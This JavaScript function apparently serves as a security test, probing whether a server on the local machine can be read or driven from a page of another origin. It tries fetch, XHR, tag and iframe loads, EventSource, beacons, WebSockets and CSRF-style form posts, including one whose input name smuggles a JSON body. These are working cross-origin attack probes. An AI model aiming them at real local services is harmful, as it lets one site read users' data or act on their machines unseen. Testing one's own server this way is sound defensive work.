// What a page of another origin tries on a server of this machine. Returns what it has learnt: [[how, what], ...]
async (target) => {
  const learnt = [];
  const note = (how, what) => { if (what !== undefined && what !== null && String(what) !== "") learnt.push([how, String(what).slice(0, 300)]); };
  const soon = (work, ms = 15000) => Promise.race([work, new Promise((done) => setTimeout(done, ms))]);
  const attempt = async (how, work) => { try { note(how, await soon(work())); } catch (refused) { /* learnt nothing */ } };
  const typed = JSON.stringify(target.typed), offer = async () => {
    const peer = new RTCPeerConnection();
    peer.addTransceiver("audio");
    peer.createDataChannel("text");
    await peer.setLocalDescription(await peer.createOffer());
    return JSON.stringify({ ...target.offer, data: { ...target.offer.data, sdp: peer.localDescription.sdp } });
  };
  const text = async (path, options) => (await fetch(target.url + path, options)).text();
  const tries = [];
  for (const path of target.reads) {
    tries.push(attempt(`fetch ${path}`, () => text(path)));
    tries.push(attempt(`fetch with cookies ${path}`, () => text(path, { credentials: "include" })));
    tries.push(attempt(`opaque fetch ${path}`, () => text(path, { mode: "no-cors" })));
    tries.push(attempt(`XHR ${path}`, () => new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = () => done(request.responseText);
      request.onerror = failed;
      request.open("GET", target.url + path);
      request.send();
    })));
    for (const [tag, source] of [["script", "src"], ["link", "href"], ["img", "src"], ["audio", "src"], ["embed", "src"], ["object", "data"]]) {
      tries.push(attempt(`${tag} ${path}`, () => new Promise((done) => {
        const element = Object.assign(document.createElement(tag), { rel: "stylesheet" });
        element.onload = () => done(["embed", "object"].includes(tag) ? "" : "it was loaded");
        element.onloadeddata = () => done("it was loaded");
        element.onerror = () => done("");
        element[source] = target.url + path;
        document.body.append(element);
      })));
    }
    tries.push(attempt(`frame ${path}`, () => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (refused) { done(""); } };
      frame.src = target.url + path;
      document.body.append(frame);
    })));
    tries.push(attempt(`EventSource ${path}`, () => new Promise((done) => {
      const source = new EventSource(target.url + path);
      source.onopen = () => done("it was opened");
      source.onmessage = (message) => done(message.data);
      source.onerror = () => { source.close(); done(""); };
    })));
  }
  const sound = await offer();
  for (const [path, body] of [...target.writes.map((path) => [path, typed]), [target.calls, sound]]) {
    for (const [kind, mode] of [["text/plain", "cors"], ["text/plain", "no-cors"], ["application/json", "cors"], ["application/x-www-form-urlencoded", "no-cors"]])
      tries.push(attempt(`POST ${kind} ${mode} ${path}`, () => text(path, { method: "POST", mode, body, headers: { "Content-Type": kind } })));
    tries.push(attempt(`beacon ${path}`, () => { navigator.sendBeacon(target.url + path, new Blob([body], { type: "text/plain" })); }));
    tries.push(attempt(`PUT ${path}`, () => text(path, { method: "PUT", body })));
    for (const encoding of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      const frame = Object.assign(document.createElement("iframe"), { name: `sink-${Math.random()}` });
      const form = Object.assign(document.createElement("form"), { action: target.url + path, method: "POST", enctype: encoding, target: frame.name });
      const input = Object.assign(document.createElement("input"), { name: body.slice(0, -1) + ', "end": "', value: '"}' });
      form.append(input);
      document.body.append(frame, form);
      form.submit();
    }
  }
  for (const path of target.sockets) {
    tries.push(attempt(`WebSocket ${path}`, () => new Promise((done) => {
      const socket = new WebSocket(target.url.replace("http", "ws") + path);
      socket.onopen = () => { socket.send(JSON.stringify({ type: "text", text: "Hello" })); done("it was opened"); };
      socket.onerror = () => done("");
    })));
  }
  await Promise.all(tries);
  return learnt;
}
